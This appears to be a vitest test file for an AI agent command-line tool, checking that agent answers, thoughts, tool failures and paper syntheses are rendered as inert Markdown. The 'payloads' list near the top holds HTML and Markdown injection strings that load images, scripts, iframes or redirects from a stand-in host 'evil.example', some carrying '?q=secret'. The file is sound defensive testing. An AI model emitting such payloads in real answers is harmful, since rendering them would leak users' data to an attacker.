import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { toInertMarkdown } from '../../src/claims/verify/inert-markdown.ts'
import {
  type ModelRequestSeen,
  type ScriptedModel,
  type ScriptedReply,
  scriptTeam,
  startScriptedModel,
} from '../../src/testing/index.ts'
import { Editor } from '../acp/editor.ts'
import { CommandLine, jsonOf, linesOf, thorough } from '../cli/command.ts'
import { call, SessionWorld } from '../code/session-world.ts'
import { sparsePapers } from '../papers/workflow-papers.ts'
import { PapersWorld } from '../papers/workflow-world.ts'

/** What loads or runs something where it is shown as Markdown; a new case is one line. */
const payloads: readonly string[] = [
  '![](https://evil.example/?q=secret)',
  '![x][1]\n\n[1]: https://evil.example/?q=secret',
  '<img src="https://evil.example/?q=secret">',
  '<video poster=//evil.example/?q=secret>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<script>fetch("https://evil.example")</script>',
  '<svg/onload=fetch("//evil.example")>',
  '<iframe src=https://evil.example></iframe>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<!--[if IE]><img src=//evil.example><![endif]-->',
  '- a\n  ```\n![](https://evil.example)',
  '> ```\n![](https://evil.example)\n> ```',
  '`a\n\n![](https://evil.example) `',
  '\\![](https://evil.example) \\\\![](https://evil.example)',
  '[![](https://evil.example)](https://good.example)',
]
const all = `Done.\n\n${payloads.join('\n\n')}\n\nBe well.`
/** Code stays as it is, and so does plain text. */
const harmless = 'Use `<b>` where 1 < 2!\n\n```html\n<img src="a.png"> ![](b.png)\n```\n\nBe well.'
/** What could be an element or an image. */
const loading = /<[a-z/!?]|(?<!\\)(?:\\\\)*!\[/i

const cli = new CommandLine(thorough)
let model: ScriptedModel
let script: (seen: ModelRequestSeen) => ScriptedReply | Promise<ScriptedReply>
beforeAll(async () => {
  model = await startScriptedModel((seen) => script(seen))
  cli.write('stone.md', '# Glimmerstone\n\nGlimmerstone melts at 412 degrees Celsius.\n')
  cli.write(
    'agent.yaml',
    'name: a\nnodes:\n  - {name: a, uses: core.return, with: {value: "<b>"}}\n',
  )
})
afterAll(async () => {
  await model.close()
  cli.remove()
})
const run = (...args: string[]) =>
  cli.run([...args, '--model', 'openai-compatible:scripted'], {
    env: { OPENAI_BASE_URL: model.url },
  })

/** All texts of a value. */
function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value]
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : []
}

it('the payloads would load something', () => {
  for (const payload of payloads) expect(payload).toMatch(loading)
})

describe('an answer of the coding agent loads nothing by being shown', () => {
  const doors: Readonly<Record<string, () => Promise<string>>> = {
    'as text': async () => (await run('code', '-p', 'Tell it.')).stdout.trim(),
    'as JSON': async () => jsonOf(await run('code', '-p', 'Tell it.', '--json')).answer,
    'as the result of a stream': async () => {
      const outcome = await run('code', '-p', 'Tell it.', '--output-format', 'stream-json')
      return linesOf(outcome).at(-1).answer
    },
    'when it is shown again': async () => {
      await run('code', '-p', 'Tell it.')
      return (await cli.run(['runs', 'show', 'last'])).stdout
    },
    'when it is shown again as JSON': async () => {
      await run('code', '-p', 'Tell it.')
      return jsonOf(await cli.run(['runs', 'show', 'last', '--json'])).answer.answer
    },
  }
  it.each(Object.entries(doors))('%s', async (_how, answer) => {
    script = () => ({ text: all })
    const shown = await answer()
    expect(shown).toContain(toInertMarkdown(all))
    expect(shown).not.toMatch(loading)
    script = () => ({ text: harmless })
    expect(await answer()).toContain(harmless)
  })

  it('to a program that holds the session, also where code wrote it', async () => {
    const world = new SessionWorld({ 'a.txt': 'a' })
    try {
      world.say([{ text: all }, { ...call('read', { path: 'a.txt' }) }])
      const session = await (await world.app()).code()
      const turn = await session.send('Tell it.')
      expect(turn.answer).toBe(toInertMarkdown(all))
      // The conversation keeps what was said.
      await session.send({ kind: 'settings', change: { maxSteps: 1, verbosity: 'detailed' } })
      const unanswered = await session.send(`Now ${payloads[2]}`)
      expect(unanswered).toMatchObject({ outcome: 'max_steps' })
      expect(unanswered.answer).not.toMatch(loading)
      expect(JSON.stringify(world.sent(2))).toContain('<script>')
      expect((await session.finish()).answer).toBe(unanswered.answer)
    } finally {
      await world.close()
    }
  })
})

describe('what an editor is told loads nothing by being shown', () => {
  let editor: Editor
  afterEach(() => editor.close())

  it('as it is written, as thoughts, as failures of tools, and when it is loaded again', async () => {
    editor = new Editor()
    await editor.start()
    editor.answer = () => 'once'
    const replies: ScriptedReply[] = [
      { ...call('read', { path: '<img src=x>' }), reasoning: all },
      { text: all, reasoning: all },
      { text: harmless },
    ]
    editor.script = () => replies.shift() ?? { text: 'nothing more' }
    const sessionId = await editor.open()
    await editor.prompt(sessionId, 'Tell it.')
    expect(editor.said('agent_message_chunk')).toBe(toInertMarkdown(all))
    expect(editor.said('agent_thought_chunk')).toContain(toInertMarkdown(all))
    expect(editor.said('agent_thought_chunk')).not.toMatch(loading)
    const [failed] = editor.heard('tool_call_update').filter(({ status }) => status === 'failed')
    expect(JSON.stringify(failed?.content)).toContain('&lt;img')
    await editor.prompt(sessionId, 'Tell more.')
    expect(editor.said('agent_message_chunk')).toBe(`${toInertMarkdown(all)}${harmless}`)
    await editor.crash()
    await editor.agent.request('session/load', {
      sessionId,
      cwd: editor.workspace,
      mcpServers: [],
    })
    expect(editor.said('agent_message_chunk')).toBe(`${toInertMarkdown(all)}${harmless}`)
    expect(editor.said('agent_thought_chunk')).not.toMatch(loading)
  })
})

describe('an answer of the question team loads nothing by being shown', () => {
  const team = scriptTeam({
    finalizer: {
      json: {
        final_answer: `Glimmerstone melts at 412 degrees Celsius [1].\n\n${all}`,
        final_reasoning_trace: all,
      },
    },
  })
  it.each([
    ['as text', []],
    ['as JSON', ['--json']],
    ['as a stream', ['--output-format', 'stream-json']],
  ])('%s', async (how, options) => {
    script = team
    const { stdout } = await run('ask', 'When does it melt?', '--source', 'stone.md', ...options)
    const last = stdout.trim().split('\n').at(-1) ?? ''
    const shown = how === 'as text' ? stdout : JSON.parse(how === 'as JSON' ? stdout : last)
    const texts = textsIn(shown)
    expect(texts.join('\n')).toContain('\\![](https://evil.example/?q=secret)')
    for (const text of texts) expect(text).not.toMatch(loading)
  })
})

it('a synthesis of papers loads nothing by being shown', async () => {
  const world = new PapersWorld(sparsePapers)
  try {
    const point = {
      point: all,
      description: all,
      text: all,
      papers: [1, 2],
      a: { says: all, papers: [1] },
      b: { says: all, papers: [2] },
    }
    const { result } = await world.run('Does sparse attention save memory?', {
      script: ({ role }) =>
        role === 'synthesizer'
          ? { json: { consensus: [point], contradictions: [point], gaps: [point], summary: all } }
          : role === 'analyzer'
            ? { json: { key_findings: [all], conclusions: [all] } }
            : undefined,
    })
    const { answer, synthesis, refused, analyses } = result
    const findings = analyses.flatMap(({ keyFindings, conclusions }) => [
      ...keyFindings,
      ...conclusions,
    ])
    const texts = textsIn([answer, synthesis, refused, findings])
    expect(texts.join('\n')).toContain('evil.example')
    for (const text of texts) expect(text).toBe(toInertMarkdown(text))
  } finally {
    await world.close()
  }
})

it('what an agent file gives is data, and stays as it is', async () => {
  expect((await cli.run(['run', 'agent.yaml'])).stdout).toBe('<b>\n')
  expect(jsonOf(await cli.run(['run', 'agent.yaml', '--json'])).output).toBe('<b>')
})
